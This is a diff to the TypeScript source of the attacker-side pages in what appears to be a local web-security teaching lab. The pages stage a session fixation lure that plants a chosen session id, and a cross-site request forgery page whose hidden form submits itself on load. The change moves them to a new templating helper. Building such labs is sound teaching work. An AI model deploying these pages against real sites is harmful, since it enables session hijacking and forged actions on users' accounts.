@@ -1,13 +1,11 @@
 import type { FastifyInstance } from 'fastify';
 import type { LabContext } from '../../core/context';
-import { escapeHtml } from '../../core/html-page';
+import { html, raw } from '../../core/html';
+import { attackerLayout } from '../../core/html-layouts';
 import type { SessionAttacker } from './attacker';
 
-const STYLE =
-  'body{font:16px system-ui,sans-serif;max-width:40rem;margin:3rem auto;padding:0 1rem;background:#2b0d0d;color:#ffe9e9}a,button{color:#ffd34d}code{background:#0004;padding:0 .2em;word-break:break-all}';
-
-const evilPage = (title: string, body: string, head = '') =>
-  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title>${head}<style>${STYLE}</style></head><body><h1>Evil Corp</h1>${body}</body></html>`;
+/** The forged form submits itself as soon as the page loads: no click needed. */
+const SUBMIT_SCRIPT = raw("<script>document.getElementById('csrf-form').submit();</script>");
 
 /** The attacker's pages for the session lab. Another site (localhost vs 127.0.0.1), so SameSite rules apply. */
 export async function sessionAttackerPages(
@@ -19,13 +17,13 @@ export async function sessionAttackerPages(
   app.get('/session/fixation', async (_request, reply) => {
     const { sid, plantUrl } = await attacker.prepareFixation();
     return reply.type('text/html; charset=utf-8').send(
-      evilPage(
+      attackerLayout(
         'You won a prize!',
-        `<p>You won a prize! Claiming it takes you to the app.</p>
-<p>Behind the scenes: the attacker picked the session id <code id="planted-sid">${escapeHtml(sid)}</code> and keeps a copy. The link below carries it in the URL, and the app's legacy entry point puts it in your browser's cookie.</p>
-<p><a id="plant-link" href="${escapeHtml(plantUrl)}">Claim your prize</a></p>`,
+        html`<p>You won a prize! Claiming it takes you to the app.</p>
+<p>Behind the scenes: the attacker picked the session id <code id="planted-sid">${sid}</code> and keeps a copy. The link below carries it in the URL, and the app's legacy entry point puts it in your browser's cookie.</p>
+<p><a id="plant-link" href="${plantUrl}">Claim your prize</a></p>`,
         // A real top-level navigation: the only way another site can get the app to set its cookie.
-        `<meta http-equiv="refresh" content="1;url=${escapeHtml(plantUrl)}">`,
+        html`<meta http-equiv="refresh" content="1;url=${plantUrl}">`,
       ),
     );
   });
@@ -51,14 +49,14 @@ export async function sessionAttackerPages(
       const run = request.query.run ? `?run=${request.query.run}` : '';
       const action = `${ctx.origins.app}/api/session/profile${run}`;
       return reply.type('text/html; charset=utf-8').send(
-        evilPage(
+        attackerLayout(
           'Cute cat pictures',
-          `<p>Loading cute cats…</p>
-<form id="csrf-form" method="POST" action="${escapeHtml(action)}" enctype="application/x-www-form-urlencoded">
-<input type="hidden" name="displayName" value="${escapeHtml(displayName)}">
+          html`<p>Loading cute cats…</p>
+<form id="csrf-form" method="POST" action="${action}" enctype="application/x-www-form-urlencoded">
+<input type="hidden" name="displayName" value="${displayName}">
 <button type="submit">Show the cats</button></form>
-<p>Behind the scenes: this page submits a hidden form to <code>${escapeHtml(action)}</code>. The browser decides whether your session cookie goes with it.</p>
-<script>document.getElementById('csrf-form').submit();</script>`,
+<p>Behind the scenes: this page submits a hidden form to <code>${action}</code>. The browser decides whether your session cookie goes with it.</p>
+${SUBMIT_SCRIPT}`,
         ),
       );
     },
